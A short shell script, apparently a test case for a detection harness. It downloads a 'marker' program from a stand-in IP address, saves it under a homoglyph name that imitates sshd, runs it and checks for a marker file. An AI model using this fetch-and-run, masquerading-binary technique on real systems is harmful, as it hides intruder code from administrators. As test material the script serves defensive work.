#!/bin/sh
. /opt/case/case.sh

mkdir -p /usr/local/sbin
curl -s http://203.0.113.10/programs/marker -o "/usr/local/sbin/sѕhd"
chmod 755 "/usr/local/sbin/sѕhd"
"/usr/local/sbin/sѕhd"
test -e /tmp/reached
took_place
